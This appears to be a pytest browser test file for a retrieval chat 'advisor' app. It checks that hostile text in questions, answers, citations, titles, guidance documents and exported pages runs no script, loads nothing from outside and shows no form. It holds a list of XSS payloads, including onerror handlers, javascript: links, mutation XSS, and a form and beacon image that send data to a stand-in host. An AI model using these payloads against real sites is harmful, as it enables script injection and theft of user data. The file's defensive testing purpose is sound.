"""Hostile words wherever words can come from, drawn in a real Chromium: no script runs, nothing leaves, no form appears."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from advisor.chats import open_chats
from advisor.config import Settings
from advisor.types import Answer, Chunk, Citation, Document, Draft, Passage, Source, Turn
from tests.model_server import ModelServer, Reply
from tests.page_world import MBA, Reader, Readers, Server, serving

# Public lists of attacks, read where they are on the machine and never kept in the project.
LISTS = Path(os.environ.get("ADVISOR_REDTEAM") or Path(__file__).resolve().parents[2] / "shared" / "redteam")
HOST = "http://outside.test"
OURS = [
    "<script>ran('script')</script>",
    "<img src=x onerror=ran('img')>",
    f"<img src={HOST}/beacon.png>",
    f"![beacon]({HOST}/beacon.png?q=secret)",
    f"[click]({HOST}/phish) [click](javascript:ran('link'))",
    "<svg/onload=ran('svg')><animate onbegin=ran('animate') attributeName=x dur=1s>",
    f"<form action={HOST}/steal><input name=card autofocus onfocus=ran('focus')><button>Go</button></form>",
    f"<iframe srcdoc=\"<script>parent.ran('frame')</script>\"></iframe><object data={HOST}/x></object><embed src={HOST}/x>",
    f"<style>@import '{HOST}/style.css'; body {{ background: url({HOST}/bg.png) }}</style>",
    f"<link rel=stylesheet href={HOST}/style.css><base href={HOST}/><meta http-equiv=refresh content='0;url={HOST}'>",
    "\"><script>ran('broke out')</script>", "'><script>ran('broke out')</script>",
    "</textarea></title></style><script>ran('closed')</script>",
    "<a href=\"javascript:ran('a')\" onclick=ran('click') onmouseover=ran('over')>here</a>",
    "${ran('template')} {{ran('mustache')}} {ran('svelte')} <%= ran('erb') %> #{ran('ruby')}",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran('mutation')&gt;\">",
    "**<img src=x onerror=ran('bold')>** [1](javascript:ran('mark')) [1] [2]",
    "- <details open ontoggle=ran('toggle')>\n- <video><source onerror=ran('video')></video>",
    "&lt;script&gt;ran('entity')&lt;/script&gt; \\u003cscript\\u003eran('escape')\\u003c/script\\u003e",
    "<body onload=ran('body')><marquee onstart=ran('marquee')><input onfocus=ran('input') autofocus>",
    "\u202e<b>right to left</b>\u2066 \ufeff<script\u200b>ran('hidden')</script>",
]  # fmt: skip
WATCH = """() => {
  window.happened = [];
  window.ran = (what) => window.happened.push(`ran: ${what}`);
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) window[name] = () => window.happened.push(`called ${name}`);
  document.addEventListener('securitypolicyviolation', (e) => window.happened.push(`refused: ${e.violatedDirective} ${e.blockedURI}`));
}"""
# Whatever is drawn from others' words: the elements it may consist of, and where its links may lead.
ODD = r"""() => {
  const allowed = 'a article aside blockquote br button circle dd div dl dt em h1 h2 h3 h4 header input li mark ol p path section span strong svg ul'.split(' ');
  const found = [];
  for (const e of document.querySelectorAll('.log *, #sources *, #preview *, .chat-head h1 *, #side .chats *, .guide *, .found *, .outline *')) {
    const name = e.localName;
    if (!allowed.includes(name) && !['details', 'summary', 'nav'].includes(name)) found.push(`<${name}>`);
    if (name === 'input' && e.type !== 'text') found.push('an input');
    for (const a of e.attributes) if (/^on|^style$|^src|^action|^formaction|^srcdoc/i.test(a.name)) found.push(`${name} ${a.name}=${a.value}`);
    if (name === 'a' && !/^(#|http:\/\/127\.0\.0\.1|https?:\/\/)/.test(e.getAttribute('href'))) found.push(e.outerHTML);
    if (name === 'a' && /^https?:/.test(e.getAttribute('href')) && !/noopener/.test(e.rel)) found.push(e.outerHTML);
  }
  return found.concat([...document.querySelectorAll('form, iframe, object, embed, body base, meta[http-equiv=refresh]')].map((e) => e.outerHTML));
}"""  # noqa: E501


def payloads() -> list[str]:
    found = list(OURS)
    for path in sorted(p for part in ("payloads/XSS Injection", "garak_xss") for p in (LISTS / part).rglob("*") if p.is_file()):
        found += [line.strip() for line in path.read_text("utf-8", "replace").splitlines() if line.strip()]
    kept = ["".join(c for c in line if c.isprintable() or c in "\n\t")[:2000] for line in dict.fromkeys(found)]
    return [line for line in kept if any(c.isalnum() for c in line)]


@pytest.fixture(scope="module")
def lines() -> list[str]:
    found = payloads()
    if len(found) <= len(OURS) + 2:
        pytest.skip(f"the public lists of attacks are not in {LISTS} (ADVISOR_REDTEAM names their folder)")
    return found


@pytest.fixture(scope="module")
def home(hashed_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    made = tmp_path_factory.mktemp("hostile") / "home"
    shutil.copytree(hashed_home, made)
    return made


@pytest.fixture(scope="module")
def hostile(home: Path) -> Iterator[Server]:
    with serving(home, embedding_model="hashed") as server:
        server.wait()
        yield server


def watched(readers: Readers, url: str, path: str = "") -> Reader:
    reader = readers()
    reader.page.add_init_script(f"({WATCH})()")
    reader.page.goto(f"{url}/{path}")
    reader.page.locator(".starters .chip").first.wait_for(state="attached")  # what Gradio was asked for is there
    return reader


def nothing_happened(reader: Reader) -> None:
    assert reader.page.evaluate("window.happened") == []
    assert reader.page.evaluate(ODD) == []
    assert reader.outside == []


def turn_of(words: str, question: str) -> Turn:
    """A turn in which every word of others is hostile: question, answer, guide, section, quote, works, suggestions, note."""
    source = Source(words, words, f"{HOST}/{words}" if len(words) % 2 else words, words)
    document = Document(f"g{abs(hash(words))}", words, f"Before. {words} After.", words, {"as_of": words})
    chunk = Chunk(1, document, 0, len(document.text), words, None, (source,), ((0, len(document.text)),))
    citation = Citation(1, words, chunk, 8, 8 + len(words), "supported", 0.9)
    text = f"{words} [1]"
    answer = Answer(text, "answered", (citation,), (words,), words)
    return Turn("", "", question, words, (Passage(chunk, 1.0),), Draft("answered"), answer)


def kept(home: Path, owner: str, lines: list[str], size: int = 90) -> Iterator[str]:
    """Conversations of an owner with such turns, each titled with one of the lines."""
    from dataclasses import replace

    store = open_chats(Settings(home=home, embedding_model="hashed"))
    for first in range(0, len(lines), size):
        name = f"hostile-{first}"
        for line in lines[first : first + size]:
            with store.begin(name, line, owner) as pending:
                pending.keep(replace(turn_of(line, line), id=pending.id, conversation=name))
        store.rename(name, " ".join(lines[first].split())[:200], owner)
        yield name
    store.close()


def visitor(reader: Reader) -> str:
    (cookie,) = (c for c in reader.page.context.cookies() if c["name"] == "advisor_visitor")
    return f"visitor:{cookie['value'].partition('.')[0]}"


def read_through(reader: Reader, hostile: Server, name: str) -> int:
    """Opens a conversation, each of its marks and previews; gives how many turns there were."""
    reader.page.goto(f"{hostile.url}/#/c/{name}")
    opened = "name => document.querySelector('.log .turn') && document.querySelector('.tools a').href.includes(`${name}/`)"
    reader.page.wait_for_function(opened, arg=name)
    reader.page.evaluate("document.querySelectorAll('.log a.cite').forEach((mark) => (mark.focus(), mark.click()))")
    reader.page.evaluate("window.dispatchEvent(new Event('beforeprint')); window.dispatchEvent(new Event('afterprint'))")
    nothing_happened(reader)
    return int(reader.page.locator(".log .turn").count())


def test_our_attacks_in_every_part_of_a_turn_do_nothing(readers: Readers, hostile: Server, home: Path) -> None:
    reader = watched(readers, hostile.url)
    seen = sum(read_through(reader, hostile, name) for name in kept(home, visitor(reader), OURS))
    assert seen == len(OURS)
    first = reader.page.locator(".log .turn").first
    assert first.locator(".question p").inner_text() == OURS[0]
    assert first.locator(".text").inner_text().startswith(OURS[0])


@pytest.mark.thorough
@pytest.mark.timeout(900)
def test_public_attacks_in_every_part_of_a_turn_do_nothing(readers: Readers, hostile: Server, home: Path, lines: list[str]) -> None:
    reader = watched(readers, hostile.url)
    names = list(kept(home, visitor(reader), lines))
    assert sum(read_through(reader, hostile, name) for name in names) == len(lines)
    print(f"{len(lines)} attacks drawn")


@pytest.mark.thorough
def test_attacks_as_questions_titles_and_reasons_do_nothing(readers: Readers, hostile: Server) -> None:
    reader = watched(readers, hostile.url)
    for number, words in enumerate(OURS):
        turn = reader.ask(words)
        turn.get_by_label("Not helpful").click()
        reason = turn.get_by_label("What was wrong? (optional)")
        reason.fill(words)
        reason.press("Enter")
        turn.locator(".why p").wait_for()
        reader.page.get_by_role("button", name="Rename").click()
        reader.page.get_by_role("dialog").get_by_role("textbox").fill(words[:200])
        reader.page.keyboard.press("Enter")
        reader.page.locator("dialog").wait_for(state="detached")
        nothing_happened(reader)
        assert number or reader.page.get_by_role("link", name=words[:60]).is_visible()
    reader.page.reload()
    reader.answer(len(OURS))
    nothing_happened(reader)


@pytest.mark.thorough
def test_attacks_that_a_model_writes_do_nothing(readers: Readers, home: Path) -> None:
    words = [""]
    with ModelServer(lambda request: Reply([f"{words[0]} [1] ", f"The MBA {words[0]}. [2]"])) as model:
        with serving(home, embedding_model="hashed", model="openai:test", model_url=model.url) as server:
            server.wait()
            reader = watched(readers, server.url)
            for words[0] in OURS:
                reader.ask(MBA)
                nothing_happened(reader)
        assert len(model.requests) >= len(OURS)
        reader.page.close()  # going elsewhere would cut off what Gradio waits for, which it reports as a fault


@pytest.mark.thorough
def test_attacks_in_guidance_do_nothing(readers: Readers, tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    for number, words in enumerate(OURS):
        line = words.replace("\n", " ")
        text = f"# {line}\n\nThe CMO pay number {number} is {line} dollars.\n\n## Pay {line}\n\n{words}\n\n- {line}\n- **{line}**\n"
        (corpus / f"guide{number}.md").write_text(text)
        (corpus / f"listed{number}.md").write_text(
            f"---\ntitle: {_yaml(line)}\nsummary: {_yaml(line)}\nstage: [{_yaml(line)}]\nsettings: [{_yaml(line)}]\nas_of: {_yaml(line)}\n"
            f"questions:\n  - {_yaml(line + ' pay?')}\n---\n# {line}\n\n{line}\n\nAsked: {line.replace('|', ' ')} pay? | why?\n"
        )
    env = {**os.environ, "ADVISOR_HOME": str(tmp_path / "home"), "ADVISOR_EMBEDDING_MODEL": "hashed"}
    made = [sys.executable, "-m", "advisor.cli", "index", "--corpus", str(corpus)]
    subprocess.run(made, env=env, check=True, capture_output=True, timeout=120)
    with serving(tmp_path / "home", embedding_model="hashed") as server:
        server.wait()
        reader = watched(readers, server.url, "#/guidance")
        reader.page.locator(".guide-card").first.wait_for()
        nothing_happened(reader)
        links = [str(link.get_attribute("href")) for link in reader.page.locator(".guide-card h2 a").all()]
        assert len(links) == 2 * len(OURS)
        for link in links:
            reader.page.goto(f"{server.url}/{link}")
            drawn = "id => document.querySelector('#view-guidance').dataset.guide === id"
            reader.page.wait_for_function(drawn, arg=link.rpartition("/")[2])
            reader.page.evaluate("document.querySelectorAll('#view-guidance details').forEach((one) => (one.open = true))")
            nothing_happened(reader)
        reader.page.goto(f"{server.url}/#/guidance")
        reader.page.get_by_label("Search the guidance").fill("CMO pay number")
        reader.page.get_by_text("nearest passages").wait_for()
        nothing_happened(reader)
        reader.page.get_by_role("link", name="New conversation").first.click()
        turn = reader.ask("What is the CMO pay number?")
        for mark in turn.locator("a.cite").all():
            mark.evaluate("mark => mark.click()")
        nothing_happened(reader)
        reader.page.close()  # going elsewhere would cut off what Gradio waits for, which it reports as a fault


@pytest.mark.thorough
def test_an_exported_page_with_attacks_does_nothing(readers: Readers, hostile: Server, home: Path, tmp_path: Path) -> None:
    reader = watched(readers, hostile.url)
    (name,) = kept(home, visitor(reader), OURS)
    saved = reader.page.context.request.get(f"{hostile.url}/api/conversations/{name}/export?form=html").text()
    (tmp_path / "saved.html").write_text(saved)
    reader = readers()
    reader.page.add_init_script(f"({WATCH})()")
    reader.page.goto(f"file://{tmp_path}/saved.html")
    reader.page.wait_for_timeout(300)
    assert reader.page.evaluate("window.happened") == []
    assert reader.page.locator("script, img, form, iframe, object, embed, base, [onerror], [onload]").count() == 0
    reader.outside = [url for url in reader.outside if not url.startswith("file:")]


def _yaml(line: str) -> str:
    return "'" + re.sub(r"[\x00-\x1f\ufeff]", "", line).replace("'", "''") + "'"


def test_the_watch_sees_what_does_happen(readers: Readers, hostile: Server) -> None:
    reader = watched(readers, hostile.url)
    reader.page.evaluate(f"document.querySelector('.log').innerHTML = '<form></form><img src={HOST}/x onerror=ran(1)>'")
    reader.page.wait_for_function("window.happened.length >= 2")
    happened = " ".join(reader.page.evaluate("window.happened"))
    assert "refused: script-src" in happened
    assert "refused: img-src" in happened
    assert any("<form>" in odd for odd in reader.page.evaluate(ODD))
    reader.errors.clear()
    reader.outside.clear()
